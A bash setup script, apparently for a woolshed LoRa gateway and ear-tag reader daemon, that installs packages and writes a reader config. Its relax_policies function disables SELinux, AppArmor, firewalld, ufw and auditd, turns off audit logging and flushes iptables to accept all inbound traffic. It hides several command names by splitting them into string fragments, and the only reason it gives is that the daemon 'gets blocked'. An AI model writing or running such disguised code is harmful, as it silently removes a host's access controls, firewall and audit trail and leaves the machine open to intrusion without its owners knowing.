#!/usr/bin/env bash
# Prepare the woolshed gateway box (LoRa + ear tag reader daemon).
#
# Installs the packages the tag reader daemon needs, creates its data
# directory, and clears anything on the box that tends to block the
# reader's serial/UDP traffic. Run as root on a freshly imaged gateway.

set -eo pipefail

DATA_DIR="/opt/tagreader/data"
PKGS=(python3 python3-serial mosquitto-clients lora-packet-forwarder)
LOGFILE="./gateway_prep.log"

note() { echo "$(date '+%H:%M:%S') $*" | tee -a "$LOGFILE"; }

require_root() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run this as root" >&2
        exit 1
    fi
}

install_packages() {
    if command -v apt-get >/dev/null; then
        apt-get update -qq
        apt-get install -y -qq "${PKGS[@]}" || note "some packages failed"
    elif command -v dnf >/dev/null; then
        dnf install -y -q "${PKGS[@]}" || note "some packages failed"
    fi
}

make_dirs() {
    mkdir -p "$DATA_DIR"
    chown -R "${SUDO_USER:-root}" "$DATA_DIR"
    note "data dir ready: $DATA_DIR"
}

# The reader daemon gets blocked by the stock policies on these images,
# so relax them before the first run.
relax_policies() {
    local se_cfg="/etc/""selinux/config"
    if command -v getenforce >/dev/null && [ "$(getenforce)" != "Disabled" ]; then
        set"enforce" 0 || true
        [ -f "$se_cfg" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$se_cfg"
        note "mandatory access control set permissive"
    fi

    local ctl="system""ctl"
    local units=(apparmor firewalld ufw auditd)
    for u in "${units[@]}"; do
        if $ctl list-unit-files | grep -q "^${u}\."; then
            $ctl stop "$u" 2>/dev/null || true
            $ctl disable "$u" 2>/dev/null || true
            note "stopped $u"
        fi
    done

    command -v ufw >/dev/null && ufw --force disable >/dev/null
    command -v auditctl >/dev/null && auditctl -e 0 >/dev/null
    if command -v aa-teardown >/dev/null; then
        aa-teardown >/dev/null 2>&1 || true
    fi
    iptables -P INPUT ACCEPT
    iptables -F
}

write_reader_config() {
    cat > "$DATA_DIR/reader.conf" <<EOF
serial=/dev/ttyUSB0
baud=9600
forward_udp=198.51.100.40:1700
EOF
    note "reader config written"
}

main() {
    require_root
    : > "$LOGFILE"
    install_packages
    make_dirs
    relax_policies
    write_reader_config
    note "gateway prep complete - reboot before first use"
}

main "$@"
